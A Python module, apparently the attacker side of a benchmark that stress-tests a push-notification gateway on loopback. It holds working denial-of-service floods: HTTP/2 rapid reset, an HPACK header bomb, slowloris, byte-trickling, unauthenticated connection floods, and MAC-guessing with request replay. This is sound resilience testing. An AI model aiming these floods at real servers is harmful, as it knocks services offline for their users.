"""
The attacker's side of ``python -m bench.abuse``: bounded floods against a gateway's
courier and provider ports, each in one asyncio worker process (about one core), each
stopping by itself after its duration and closing every connection it opened.

Every flood takes a spec dict (ports, source-address mode, connection count, duration,
its own knobs) and returns a dict of counters plus a timeline of the connections it held
(sampled twice a second). Connections come from one loopback address ("one") or from a
different 127.x.y.z address each ("many"), so per-address caps are tried both ways; the
honest device and provider stay on 127.0.0.1, which no flood uses.

None of this is pushd code: hostile input is built by hand (raw HTTP/2 frames, raw TLS
records, half-sent courier frames) where a well-behaved library would refuse to send it.
"""

from __future__ import annotations

import asyncio
import collections
import json
import os
import random
import ssl
import struct
import time

ONE_ADDRESS = "127.77.0.1"
SAMPLE_EVERY = 0.5
CONNECT_TIMEOUT = 10.0
#: Handshakes in flight at once per flood.
CONCURRENCY = 100

H2_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# HTTP/2 frame types and flags (RFC 9113).
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
GOAWAY_CODES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR",
                7: "REFUSED_STREAM", 8: "CANCEL", 9: "COMPRESSION_ERROR", 11: "ENHANCE_YOUR_CALM"}


def source(mode: str, i: int) -> str:
    if mode == "one":
        return ONE_ADDRESS
    # Never 127.0.x.x (the honest side) nor ONE_ADDRESS; 62,500 distinct addresses per /16.
    return f"127.{100 + i // 62500}.{1 + (i // 250) % 250}.{2 + i % 250}"


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def client_context(alpn):
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    if alpn:
        ctx.set_alpn_protocols(alpn)
    return ctx


def hpack_str(value: bytes) -> bytes:
    """An HPACK string literal, not Huffman-coded (lengths below 127 only)."""
    assert len(value) < 127
    return bytes([len(value)]) + value


def hpack_int(value: int, prefix_bits: int, first: int) -> bytes:
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = bytearray([first | limit])
    value -= limit
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    out.append(value)
    return bytes(out)


def request_block(token_hex: bytes, authority: bytes = b"localhost") -> bytes:
    """A POST /3/device/<token> header block that touches no dynamic table (literals without
    indexing), so the same bytes are valid on every stream; no authorization."""
    return (b"\x83\x87"  # :method POST, :scheme https (static table)
            + b"\x04" + hpack_str(b"/3/device/" + token_hex)  # :path, name from the static table
            + b"\x01" + hpack_str(authority)  # :authority
            + b"\x00" + hpack_str(b"apns-topic") + hpack_str(b"com.example.abuse"))


# Five-bit Huffman codes (RFC 7541 Appendix B): eight of these are exactly five bytes.
_FIVE_BIT = b"012aceiost"


def huffman_five(chars: bytes) -> bytes:
    """Huffman-code a string of 8k characters out of _FIVE_BIT (codes 0..9, five bits each)."""
    assert len(chars) % 8 == 0
    out = bytearray()
    for k in range(0, len(chars), 8):
        n = 0
        for c in chars[k:k + 8]:
            n = n << 5 | _FIVE_BIT.index(c)
        out += n.to_bytes(5, "big")
    return bytes(out)


def hpack_bomb_block(encoded_size: int, token_hex: bytes) -> bytes:
    """A header block with one Huffman-coded value of about encoded_size bytes, different
    every call (a random prefix), decoding to 1.6x that: far over any header list limit."""
    unique = huffman_five(bytes(random.choice(_FIVE_BIT) for _ in range(16)))
    body = _BOMB_BODY.get(encoded_size)
    if body is None:
        body = _BOMB_BODY[encoded_size] = huffman_five(b"aeiostc0") * (encoded_size // 5)
    value = unique + body
    return (request_block(token_hex) + b"\x10" + hpack_str(b"x-abuse")  # literal never indexed
            + hpack_int(len(value), 7, 0x80) + value)


_BOMB_BODY: dict = {}


def split_header_block(stream: int, block: bytes, max_frame=16384, end_stream=False) -> bytes:
    """HEADERS plus as many CONTINUATION frames as the block needs."""
    chunks = [block[i:i + max_frame] for i in range(0, len(block), max_frame)] or [b""]
    out = []
    for k, chunk in enumerate(chunks):
        last = k == len(chunks) - 1
        flags = (END_HEADERS if last else 0) | (END_STREAM if end_stream and k == 0 else 0)
        out.append(frame(HEADERS if k == 0 else CONTINUATION, flags, stream, chunk))
    return b"".join(out)


def fake_token(i: int) -> bytes:
    return b"%064x" % (0xABAD0000 + i)


# --- bookkeeping ------------------------------------------------------------------------------


class Tally:
    """What a flood did, plus the connections it holds right now."""

    def __init__(self):
        self.live: set = set()
        self.opened = 0
        self.failed = 0
        self.failures: collections.Counter = collections.Counter()
        self.closed_by_gateway = 0
        self.peak = 0
        self.counters: collections.Counter = collections.Counter()
        self.timeline: list = []
        self.stopping = False

    def up(self, proto):
        self.opened += 1
        self.live.add(proto)
        self.peak = max(self.peak, len(self.live))

    def down(self, proto):
        if proto in self.live:
            self.live.discard(proto)
            if not self.stopping:
                self.closed_by_gateway += 1

    def fail(self, exc):
        self.failed += 1
        self.failures[type(exc).__name__] += 1

    async def sample(self):
        while True:
            self.timeline.append((round(time.time(), 2), len(self.live)))
            await asyncio.sleep(SAMPLE_EVERY)

    def result(self, **extra) -> dict:
        return {"opened": self.opened, "failed": self.failed, "failures": dict(self.failures),
                "closed_by_gateway": self.closed_by_gateway, "held_peak": self.peak,
                "held_end": len(self.live), "counters": dict(self.counters), "timeline": self.timeline, **extra}


class Held(asyncio.Protocol):
    """A connection the flood keeps; reads and discards what the gateway sends."""

    def __init__(self, tally: Tally):
        self.tally = tally
        self.transport = None
        self.lost = asyncio.get_running_loop().create_future()

    def connection_made(self, transport):
        self.transport = transport
        self.tally.up(self)

    def data_received(self, data):
        self.tally.counters["bytes_in"] += len(data)

    def connection_lost(self, exc):
        self.tally.down(self)
        if not self.lost.done():
            self.lost.set_result(None)

    def send(self, data: bytes):
        if self.transport is not None and not self.transport.is_closing():
            self.transport.write(data)
            self.tally.counters["bytes_out"] += len(data)


class H2Reader(Held):
    """Minimal HTTP/2 bookkeeping on raw frames: ACK SETTINGS, note GOAWAY and answers,
    give back the connection window the gateway's DATA used."""

    def __init__(self, tally):
        super().__init__(tally)
        self.buf = b""
        self.goaway = None
        self.goaway_seen = asyncio.get_running_loop().create_future()
        self.data_unacked = 0
        self.max_streams = None

    def data_received(self, data):
        super().data_received(data)
        buf = self.buf + data
        pos = 0
        out = []
        while len(buf) - pos >= 9:
            length = int.from_bytes(buf[pos:pos + 3], "big")
            if len(buf) - pos - 9 < length:
                break
            kind, flags, stream = buf[pos + 3], buf[pos + 4], struct.unpack_from(">I", buf, pos + 5)[0] & 0x7FFFFFFF
            payload = buf[pos + 9:pos + 9 + length]
            pos += 9 + length
            if kind == SETTINGS and not flags & ACK:
                for k in range(0, len(payload) - 5, 6):
                    ident, value = struct.unpack_from(">HI", payload, k)
                    if ident == 3:
                        self.max_streams = value
                out.append(frame(SETTINGS, ACK, 0))
            elif kind == GOAWAY and len(payload) >= 8:
                code = struct.unpack_from(">I", payload, 4)[0]
                self.goaway = GOAWAY_CODES.get(code, str(code))
                self.tally.counters["goaway:" + self.goaway] += 1
                if not self.goaway_seen.done():
                    self.goaway_seen.set_result(None)
            elif kind == HEADERS:
                self.tally.counters["answers"] += 1
            elif kind == RST_STREAM:
                self.tally.counters["rst_from_gateway"] += 1
            elif kind == DATA:
                self.data_unacked += length
            elif kind == PING and not flags & ACK:
                out.append(frame(PING, ACK, 0, payload))
        self.buf = buf[pos:]
        if self.data_unacked > 1 << 20:
            out.append(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", self.data_unacked)))
            self.data_unacked = 0
        if out:
            self.send(b"".join(out))


async def dial(tally, factory, port, mode, i, ctx=None, timeout=CONNECT_TIMEOUT):
    loop = asyncio.get_running_loop()
    try:
        _, proto = await asyncio.wait_for(
            loop.create_connection(factory, "127.0.0.1", port, ssl=ctx,
                                   server_hostname="localhost" if ctx else None,
                                   local_addr=(source(mode, i), 0),
                                   **({"ssl_handshake_timeout": timeout} if ctx else {})),
            timeout + 2)
        return proto
    except (OSError, asyncio.TimeoutError, ssl.SSLError) as e:
        tally.fail(e)
        return None


async def open_many(tally, n, concurrency, connect, until):
    """Open n connections, at most `concurrency` handshakes at a time, stopping at `until`."""
    sem = asyncio.Semaphore(concurrency)

    async def one(i):
        async with sem:
            if time.monotonic() < until and not tally.stopping:
                await connect(i)

    await asyncio.gather(*(one(i) for i in range(n)))


async def keep_open(tally, n, concurrency, connect, until):
    """Hold n connections as an attacker would: open them, and open new ones (from new
    addresses, in "many" mode) as the gateway closes or refuses them, until `until`; at most
    n + max(2n, 200) dials in all, and after the first n at most 100 a second."""
    budget = n + max(2 * n, 200)
    pending = set()
    i = 0
    while time.monotonic() < until and not tally.stopping and i < budget:
        if len(pending) >= concurrency or len(tally.live) + len(pending) >= n:
            await asyncio.sleep(0.01 if len(pending) >= concurrency else 0.2)
            continue
        task = asyncio.ensure_future(connect(i))
        pending.add(task)
        task.add_done_callback(pending.discard)
        i += 1
        if i > n:
            tally.counters["redials"] += 1
            await asyncio.sleep(0.01)
        elif i % concurrency == 0:
            await asyncio.sleep(0)
    if pending:
        await asyncio.wait(pending, timeout=max(0.1, until - time.monotonic()))


def close_all(tally):
    tally.stopping = True
    for p in list(tally.live):
        if p.transport is not None:
            p.transport.abort()


# --- the floods -------------------------------------------------------------------------------


async def flood_h2(spec, tally, until):
    """Unauthenticated HTTP/2: as many streams as the gateway allows, each with a large body
    and no END_STREAM, never an authorization; PINGs keep the connection busy."""
    from h2.config import H2Configuration
    from h2.connection import H2Connection
    from h2.events import ConnectionTerminated, RemoteSettingsChanged, StreamReset, WindowUpdated
    from h2.exceptions import H2Error

    body_size = spec.get("body", 32 * 1024)
    max_streams = spec.get("streams", 1000)
    ping_every = spec.get("ping_every", 5.0)
    chunk = b"x" * 16384

    class Conn(Held):
        def __init__(self, tally):
            super().__init__(tally)
            self.h2 = H2Connection(H2Configuration(client_side=True, header_encoding=None,
                                                   validate_outbound_headers=False))
            self.left: dict = {}  # stream -> body bytes still to send

        def connection_made(self, transport):
            super().connection_made(transport)
            self.h2.initiate_connection()
            self.flush()

        def flush(self):
            data = self.h2.data_to_send()
            if data:
                self.send(data)

        def open_streams(self):
            while (self.h2.open_outbound_streams < min(max_streams, self.h2.remote_settings.max_concurrent_streams)
                   and self.tally.counters["streams"] < max_streams * spec["connections"]):
                sid = self.h2.get_next_available_stream_id()
                try:
                    self.h2.send_headers(sid, [(b":method", b"POST"), (b":scheme", b"https"),
                                               (b":authority", b"localhost"),
                                               (b":path", b"/3/device/" + fake_token(sid)),
                                               (b"apns-topic", b"com.example.abuse"),
                                               (b"content-length", b"%d" % body_size)])
                except H2Error:
                    break
                self.tally.counters["streams"] += 1
                self.left[sid] = body_size
            self.pump()

        def pump(self):
            for sid in list(self.left):
                if self.h2.outbound_flow_control_window <= 0:
                    break
                while self.left.get(sid):
                    try:
                        room = min(self.h2.local_flow_control_window(sid), self.h2.max_outbound_frame_size,
                                   self.left[sid])
                    except H2Error:
                        self.left.pop(sid, None)
                        break
                    if room <= 0:
                        break
                    try:
                        self.h2.send_data(sid, chunk[:room])
                    except H2Error:
                        self.left.pop(sid, None)
                        break
                    self.left[sid] -= room
                    self.tally.counters["body_bytes"] += room
                if not self.left.get(sid, 1):
                    del self.left[sid]
            self.flush()

        def data_received(self, data):
            super().data_received(data)
            try:
                events = self.h2.receive_data(data)
            except H2Error:
                self.tally.counters["h2_errors"] += 1
                self.transport.abort()
                return
            for ev in events:
                if isinstance(ev, ConnectionTerminated):
                    code = GOAWAY_CODES.get(int(ev.error_code), str(ev.error_code))
                    self.tally.counters["goaway:" + code] += 1
                elif isinstance(ev, StreamReset):
                    self.tally.counters["rst_from_gateway"] += 1
                    self.left.pop(ev.stream_id, None)
                elif isinstance(ev, RemoteSettingsChanged):
                    self.open_streams()
                elif isinstance(ev, WindowUpdated):
                    pass
            self.pump()

        def ping(self):
            try:
                self.h2.ping(os.urandom(8))
                self.tally.counters["pings"] += 1
            except H2Error:
                return
            self.flush()

    ctx = client_context(["h2"])
    conns = []

    async def connect(i):
        p = await dial(tally, lambda: Conn(tally), spec["provider_port"], spec["mode"], i, ctx)
        if p is not None:
            conns.append(p)

    opener = asyncio.ensure_future(keep_open(tally, spec["connections"], 16, connect, until))
    while time.monotonic() < until:
        await asyncio.sleep(min(ping_every, max(0.0, until - time.monotonic())))
        for c in conns:
            if c in tally.live:
                c.ping()
                c.open_streams()
    opener.cancel()


async def flood_hpack(spec, tally, until):
    """One Huffman-coded header block of ~1 MB per connection (HEADERS + CONTINUATIONs, the
    most h2 takes), a new one each time: the gateway decodes it, then refuses it."""
    size = spec.get("block", 62 * 16384)
    blocks = spec["connections"]
    ctx = client_context(["h2"])
    block_bytes = [0]

    async def connect(i):
        p = await dial(tally, lambda: H2Reader(tally), spec["provider_port"], spec["mode"], i, ctx)
        if p is None:
            return
        block = hpack_bomb_block(size, fake_token(i))
        block_bytes[0] = len(block)
        p.send(H2_PREFACE + frame(SETTINGS, 0, 0) + split_header_block(1, block, end_stream=True))
        tally.counters["blocks"] += 1
        # Refused: a GOAWAY, or the connection closed. (The gateway may keep the TCP connection
        # open after its GOAWAY; that is not what this flood measures, so it moves on.)
        done, _ = await asyncio.wait([p.lost, p.goaway_seen], timeout=max(0.1, min(10.0, until - time.monotonic())),
                                     return_when=asyncio.FIRST_COMPLETED)
        if not done:
            tally.counters["not_refused_in_10s"] += 1
        elif not p.lost.done():
            tally.counters["open_after_goaway"] += 1
        p.transport.abort()

    await open_many(tally, blocks, spec.get("concurrency", 4), connect, until)
    tally.counters["block_bytes"] = block_bytes[0]


async def flood_trickle(spec, tally, until):
    """Courier: a frame header declaring 32,768 bytes, most of the body at once, then one
    byte every few seconds, on thousands of connections."""
    from pushd import wire

    declared = spec.get("declared", wire.MAX_FRAME)
    first = spec.get("first", declared - 768)
    every = spec.get("every", 5.0)
    ctx = client_context(["apns-security-v3"])

    class Trickler(Held):
        sent = 0

        def connection_made(self, transport):
            super().connection_made(transport)
            self.sent = first
            self.send(wire.HEADER.pack(wire.CONNECT, declared) + b"\0" * first)

    async def connect(i):
        await dial(tally, lambda: Trickler(tally), spec["courier_port"], spec["mode"], i, ctx)

    opener = asyncio.ensure_future(keep_open(tally, spec["connections"], spec.get("concurrency", CONCURRENCY), connect,
                                             until))
    while time.monotonic() < until:
        await asyncio.sleep(min(every, max(0.0, until - time.monotonic())))
        for p in list(tally.live):
            if p.sent < declared - 1:  # never complete the frame
                p.sent += 1
                p.send(b"\0")
                tally.counters["trickled_bytes"] += 1
    opener.cancel()


async def flood_slowloris(spec, tally, until):
    """HTTP/1.1 on the provider port: a request line and headers, one byte every few seconds."""
    every = spec.get("every", 5.0)
    ctx = client_context(["http/1.1"])
    header = b"X-Abuse: " + b"a" * 4000 + b"\r\n"

    class Slow(Held):
        pos = 0

        def connection_made(self, transport):
            super().connection_made(transport)
            self.send(b"POST /3/device/" + fake_token(self.tally.opened) + b" HTTP/1.1\r\nHost: localhost\r\n"
                      b"apns-topic: com.example.abuse\r\n")

    async def connect(i):
        await dial(tally, lambda: Slow(tally), spec["provider_port"], spec["mode"], i, ctx)

    opener = asyncio.ensure_future(keep_open(tally, spec["connections"], spec.get("concurrency", CONCURRENCY), connect,
                                             until))
    while time.monotonic() < until:
        await asyncio.sleep(min(every, max(0.0, until - time.monotonic())))
        for p in list(tally.live):
            p.send(header[p.pos % len(header):p.pos % len(header) + 1])
            p.pos += 1
            tally.counters["trickled_bytes"] += 1
    opener.cancel()


async def flood_rapid_reset(spec, tally, until):
    """HTTP/2 rapid reset (CVE-2023-44487): HEADERS (a whole request) then RST_STREAM at once,
    in a loop, on all the connections opened (up to 3 s spent opening them first)."""
    batch = spec.get("batch", 256)
    ctx = client_context(["h2"])
    conns = []
    block = request_block(fake_token(0))
    pair = frame(HEADERS, END_STREAM | END_HEADERS, 0, block) + frame(RST_STREAM, 0, 0, struct.pack(">I", 8))
    hlen = 9 + len(block)
    template = bytearray(pair * batch)

    async def connect(i):
        p = await dial(tally, lambda: H2Reader(tally), spec["provider_port"], spec["mode"], i, ctx)
        if p is not None:
            p.next_stream = 1
            p.send(H2_PREFACE + frame(SETTINGS, 0, 0))
            conns.append(p)

    opener = asyncio.ensure_future(keep_open(tally, spec["connections"], 8, connect, until))
    # All the connections first, then the resets on all of them at once: the gateway holds
    # them together, so its memory per connection is measured over n of them, not over the
    # 8 or so a loop of one-at-a-time connections has open (each lives a few ms: 1 MiB of
    # allocator noise divided by 8 read as 128-185 KiB "per connection").
    # Up to 3 s: the gateway closes a connection with no complete request 5 s after its start.
    gather_until = min(until, time.monotonic() + spec.get("gather", 3.0))
    while time.monotonic() < gather_until and len(conns) < spec["connections"]:
        await asyncio.sleep(0.05)
    tally.counters["held_before_resets"] = sum(1 for p in conns if p in tally.live)
    tally.counters["resets_began"] = time.time()
    while time.monotonic() < until:
        wrote = False
        for p in conns:
            if p not in tally.live or p.goaway or p.transport.get_write_buffer_size() > 256 * 1024:
                continue
            sid = p.next_stream
            if sid + 2 * batch >= 1 << 31:
                continue
            for k in range(batch):
                off = k * len(pair)
                struct.pack_into(">I", template, off + 5, sid)
                struct.pack_into(">I", template, off + hlen + 5, sid)
                sid += 2
            p.next_stream = sid
            p.send(bytes(template))
            tally.counters["requests"] += batch
            wrote = True
        await asyncio.sleep(0 if wrote else 0.005)
    opener.cancel()


def client_hello(alpn) -> bytes:
    """The first flight of a real TLS client (a ClientHello), to send and never follow."""
    ctx = client_context(alpn)
    obj = ctx.wrap_bio(ssl.MemoryBIO(), out := ssl.MemoryBIO(), server_hostname="localhost")
    try:
        obj.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return out.read()


async def flood_connections(spec, tally, until):
    """Connections that never authenticate: half send a ClientHello and stop there (the
    handshake never finishes), half send nothing at all; over both ports."""
    hellos = {spec["courier_port"]: client_hello(["apns-security-v3"]),
              spec["provider_port"]: client_hello(["h2", "http/1.1"])}
    ports = [spec["courier_port"], spec["provider_port"]]

    async def connect(i):
        port = ports[i % 2]
        p = await dial(tally, lambda: Held(tally), port, spec["mode"], i)
        if p is not None and (i // 2) % 2 == 0:
            p.send(hellos[port])
            tally.counters["client_hellos"] += 1

    await keep_open(tally, spec["connections"], spec.get("concurrency", 200), connect, until)
    while time.monotonic() < until:
        await asyncio.sleep(min(1.0, max(0.0, until - time.monotonic())))


async def _http1(reader, writer, body: bytes) -> int:
    writer.write(b"POST /pushd/v1/enrol HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
                 b"Content-Length: %d\r\n\r\n" % len(body) + body)
    head = await reader.readuntil(b"\r\n\r\n")
    status = int(head.split(b" ", 2)[1])
    length = 0
    for line in head.split(b"\r\n"):
        if line.lower().startswith(b"content-length:"):
            length = int(line.split(b":", 1)[1])
    await reader.readexactly(length)
    if b"connection: close" in head.lower():
        raise ConnectionResetError("closed by the gateway")
    return status


async def flood_enrol(spec, tally, until):
    """Enrolment: a few keep-alive connections sending requests with wrong MACs as fast as
    the gateway answers, and one valid captured request replayed, spread over the flood."""
    valid = spec["enrol_body"].encode()
    bad = json.loads(valid)
    mac = bad.get("mac", "")
    bad["mac"] = ("0" if mac[:1] != "0" else "1") + mac[1:]
    bad = json.dumps(bad).encode()
    ctx = client_context(["http/1.1"])
    port = spec["provider_port"]
    replays = spec.get("replays", 200)

    class Mark:
        transport = None

    async def session(i, body, count_key, per_second=None, budget=None):
        k = 0
        while time.monotonic() < until and (budget is None or budget[0] > 0):
            try:
                reader, writer = await asyncio.wait_for(
                    asyncio.open_connection("127.0.0.1", port, ssl=ctx, server_hostname="localhost",
                                            local_addr=(source(spec["mode"], i * 1000 + k), 0)),
                    CONNECT_TIMEOUT)
            except (OSError, asyncio.TimeoutError, ssl.SSLError) as e:
                tally.fail(e)
                await asyncio.sleep(0.2)
                k += 1
                continue
            mark = Mark()
            mark.transport = writer.transport
            tally.up(mark)
            try:
                while time.monotonic() < until and (budget is None or budget[0] > 0):
                    if budget is not None:
                        budget[0] -= 1
                    status = await asyncio.wait_for(_http1(reader, writer, body), 10)
                    tally.counters[f"{count_key}:{status}"] += 1
                    if per_second:
                        await asyncio.sleep(1.0 / per_second)
            except (OSError, asyncio.TimeoutError, asyncio.IncompleteReadError, ssl.SSLError, ValueError,
                    IndexError) as e:
                tally.counters[f"{count_key}:{type(e).__name__}"] += 1
            finally:
                tally.down(mark)
                writer.transport.abort()
            k += 1

    duration = max(1.0, until - time.monotonic())
    tasks = [session(i, bad, "bad_mac") for i in range(spec["connections"])]
    tasks.append(session(spec["connections"], valid, "replay", per_second=replays / duration, budget=[replays]))
    await asyncio.gather(*tasks)


FLOODS = {
    "h2": flood_h2,
    "hpack": flood_hpack,
    "trickle": flood_trickle,
    "slowloris": flood_slowloris,
    "rapid-reset": flood_rapid_reset,
    "connections": flood_connections,
    "enrol": flood_enrol,
}


async def run(spec) -> dict:
    tally = Tally()
    sampler = asyncio.ensure_future(tally.sample())
    started = time.time()
    until = time.monotonic() + spec["duration"]
    try:
        await asyncio.wait_for(FLOODS[spec["flood"]](spec, tally, until), spec["duration"] + 15)
    except asyncio.TimeoutError:
        tally.counters["overran"] += 1
    held = len(tally.live)
    close_all(tally)
    sampler.cancel()
    await asyncio.sleep(0.2)
    return tally.result(started=started, ended=time.time(), held_end=held)


def worker(spec, cpus, conn):
    """Entry point of the flood's own process: pinned, fd limit raised, one asyncio loop."""
    import resource

    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    if cpus:
        os.sched_setaffinity(0, cpus)
    try:
        conn.send(asyncio.run(run(spec)))
    except BaseException as e:  # reported to the orchestrator, never hang it
        conn.send({"error": repr(e)})


def run_in_process(spec, cpus=None) -> dict:
    import multiprocessing

    ctx = multiprocessing.get_context("spawn")
    a, b = ctx.Pipe()
    p = ctx.Process(target=worker, args=(spec, cpus, b), daemon=True)
    p.start()
    try:
        if not a.poll(spec["duration"] + 60):
            return {"error": "flood worker did not finish in time"}
        return a.recv()
    finally:
        p.join(5)
        if p.is_alive():
            p.kill()
